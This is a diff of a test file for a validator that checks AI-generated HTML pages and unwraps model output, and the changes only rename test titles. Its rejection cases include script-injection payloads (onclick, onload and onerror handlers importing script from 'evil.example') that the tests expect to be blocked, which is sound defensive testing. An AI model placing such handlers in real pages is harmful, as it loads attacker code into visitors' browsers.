@@ -31,7 +31,7 @@ describe('A generated page is accepted', () => {
       'with another policy of its own',
       goodPage('T', '<p>x</p>', '<meta http-equiv="content-security-policy" content="x">'),
     ],
-  ])('%s', (_, page) => expect(faultOf(page)).toBeNull());
+  ])('a page %s', (_, page) => expect(faultOf(page)).toBeNull());
 });
 
 describe('A generated page is rejected', () => {
@@ -59,7 +59,7 @@ describe('A generated page is rejected', () => {
     ['a NUL', goodPage('T', '<p>\0</p>'), 'incomplete', 'not valid HTML'],
     ['too much', goodPage('T', `<p>${'x'.repeat(524_288)}</p>`), 'incomplete', '512 KiB'],
     ['too deep', goodPage('T', '<b>'.repeat(300) + '</b>'.repeat(300)), 'incomplete', 'deep'],
-  ])('for %s', (_, text, kind, why) => {
+  ])('because of %s', (_, text, kind, why) => {
     const fault = faultOf(text);
     expect(fault?.kind).toBe(kind);
     expect(fault?.detail).toContain(why);
@@ -141,14 +141,14 @@ describe('A generated page is rejected', () => {
     `<p onclick="import('https://evil.example/x.js')">x</p>`,
     `<svg onload="import('//evil.example/x.js')"></svg>`,
     `<img alt="" src="/x.png" onerror="import(&quot;https://evil.example/x.js&quot;)">`,
-  ])('for %j', (markup) => {
+  ])('a page with %j', (markup) => {
     expect(inBody(`<p>x</p>${markup}`)?.kind).toBe('incomplete');
     if (/^<(?:base|meta|link|style|noscript|script|template)/i.test(markup))
       expect(inHead(markup)?.kind).toBe('incomplete');
   });
 
   it.each(['<section><p>x</p>', '<p>x</p><div class="', '<table><tr><td><b>x</td></tr></table>', '<svg><g></svg>'])(
-    'with %j left open',
+    'a page with %j left open',
     (body) => expect(inBody(body)?.kind).toBe('incomplete'),
   );
 });
@@ -164,7 +164,7 @@ describe('Unwrapping a model’s output', () => {
     ['from a fence that only ends', `${page}\n\`\`\``],
     ['from a thought', `<think>The user wants <b>a page</b>.</think>\n\n${page}`],
     ['from a thought and a fence', `<think>x</think>\`\`\`html\n${page}\n\`\`\``],
-  ])('%s', (_, answer) => expect(unwrapped(answer)).toBe(page));
+  ])('returns the page %s', (_, answer) => expect(unwrapped(answer)).toBe(page));
 
   it.each([
     ['two fences', `\`\`\`html\n${page}\n\`\`\`\nor\n\`\`\`html\n${page}\n\`\`\``],
@@ -172,5 +172,5 @@ describe('Unwrapping a model’s output', () => {
     ['a thought without an end', `<think>${page}`],
     ['markup outside of the fence', `<p>x</p>\n\`\`\`html\n${page}\n\`\`\``],
     ['a fence around words', '```\nI cannot.\n```'],
-  ])('into nothing that is offered from %s', (_, answer) => expect(faultOf(unwrapped(answer))).not.toBeNull());
+  ])('returns no acceptable page from %s', (_, answer) => expect(faultOf(unwrapped(answer))).not.toBeNull());
 });
